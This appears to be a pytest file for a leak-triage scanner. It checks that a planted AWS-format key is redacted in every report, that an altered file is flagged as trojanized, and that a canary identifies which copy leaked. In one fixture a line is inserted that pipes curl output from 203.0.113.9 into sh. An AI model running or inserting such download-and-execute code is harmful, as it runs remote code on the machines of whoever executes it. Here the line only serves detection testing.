"""Signatures through a whole scan: planted credentials are reported redacted in every output,
an altered copy that inserts download-and-execute code is trojanized, a canary names the copy."""

from __future__ import annotations

import shutil
import zipfile
from pathlib import Path

from click.testing import CliRunner

from tests.conftest import Repo, code_file
from triage.cli import main
from triage.rules import BUILTIN_DIR

AWS = "AKIA6LAXYOEYZGCHNYG2"  # valid-format example from signatures/aws-access-key-id.yml


def test_credentials_redacted_everywhere_and_trojan_flagged(repo: Repo, tmp_path: Path):
    src = code_file("net")
    repo.commit({"app/net.py": src, "app/util.py": code_file("util")})
    runner = CliRunner()
    db = tmp_path / "i.db"
    assert runner.invoke(main, ["index", str(repo.path), "--db", str(db)]).exit_code == 0
    lines = src.splitlines(keepends=True)
    trojan = "".join(lines[:20] + ["import subprocess\n", "subprocess.run('curl -s http://203.0.113.9/x | sh', shell=True)\n"]
                     + lines[20:])
    canaries = tmp_path / "rules"
    canaries.mkdir()
    shutil.copy(BUILTIN_DIR / "canaries.example.yml", canaries / "canaries.yml")
    drop = tmp_path / "d.zip"
    with zipfile.ZipFile(drop, "w") as zf:
        zf.writestr("leak/app/net.py", trojan)
        zf.writestr("leak/app/util.py", (repo.path / "app/util.py").read_bytes())
        zf.writestr("leak/deploy/.env", f'AWS_ACCESS_KEY_ID = "{AWS}"\n# build ref cnry-7f3a9c\n')
    ev = tmp_path / "ev"
    res = runner.invoke(main, ["scan", str(drop), "--db", str(db), "--out", str(ev), "--signatures", str(canaries)])
    assert res.exit_code == 1, res.stderr
    assert "1 credentials to rotate" in res.stderr
    outputs = {p.name: p.read_text(encoding="utf-8") for p in ev.iterdir()}
    for name, text in outputs.items():
        assert AWS not in text, f"{name} holds the secret whole"
    import json

    doc = json.loads(outputs["report.json"])
    aws = [h for h in doc["signatures"] if h["rule"] == "aws-access-key-id"]
    assert aws and aws[0]["path"] == "leak/deploy/.env" and aws[0]["line"] == 1 and aws[0]["action"] == "rotate"
    red = aws[0]["redacted"]
    assert red.startswith("AKIA") and "…" in red
    assert red in outputs["report.md"] and red in outputs["report.html"]
    net = next(f for f in doc["files"] if f["path"] == "leak/app/net.py")
    assert net["verdict"] == "altered" and net["evidence"]["trojanized"] is True
    assert {h["rule"] for h in net["evidence"]["suspicious_insertions"]} >= {"policy-pipe-to-shell"}
    assert any(h["kind"] == "canary" and h["recipient"] == "copy given to Partner A (2025-03)"
               for h in doc["signatures"])
    assert "## Containment" in outputs["report.md"] and "## Attribution" in outputs["report.md"]
    assert "trojanized" in outputs["report.md"]
    assert doc["ruleset"]["rules"] >= 27 and len(doc["ruleset"]["id"]) == 64


def test_signatures_cli(tmp_path: Path):
    runner = CliRunner()
    assert runner.invoke(main, ["signatures", "test"]).exit_code == 0
    assert runner.invoke(main, ["signatures", "lint"]).exit_code == 0
    bad = tmp_path / "bad"
    bad.mkdir()
    (bad / "broken.yml").write_text("id: x\ntitle: [unclosed\n")
    res = runner.invoke(main, ["signatures", "lint", str(bad)])
    assert res.exit_code == 1 and "broken.yml" in res.output


def test_a_secret_in_a_source_map_is_reported_once_at_its_source(repo: Repo, tmp_path: Path):
    """A source map's JSON holds its sources' text: the credential is reported in the source file
    it came out of, not a second time in the map."""
    import json

    from triage.pipeline import scan

    repo.commit({"app/util.py": code_file("util")})
    db = tmp_path / "i.db"
    assert CliRunner().invoke(main, ["index", str(repo.path), "--db", str(db)]).exit_code == 0
    smap = {"version": 3, "sources": ["src/config.js"], "mappings": "",
            "sourcesContent": [f'export const key = "{AWS}";\n']}
    drop = tmp_path / "d.zip"
    with zipfile.ZipFile(drop, "w") as zf:
        zf.writestr("leak/dist/app.js.map", json.dumps(smap))
    aws = [h for h in scan(drop, db).signatures if h["rule"] == "aws-access-key-id"]
    assert [h["path"] for h in aws] == ["leak/dist/app.js.map!src/config.js"]
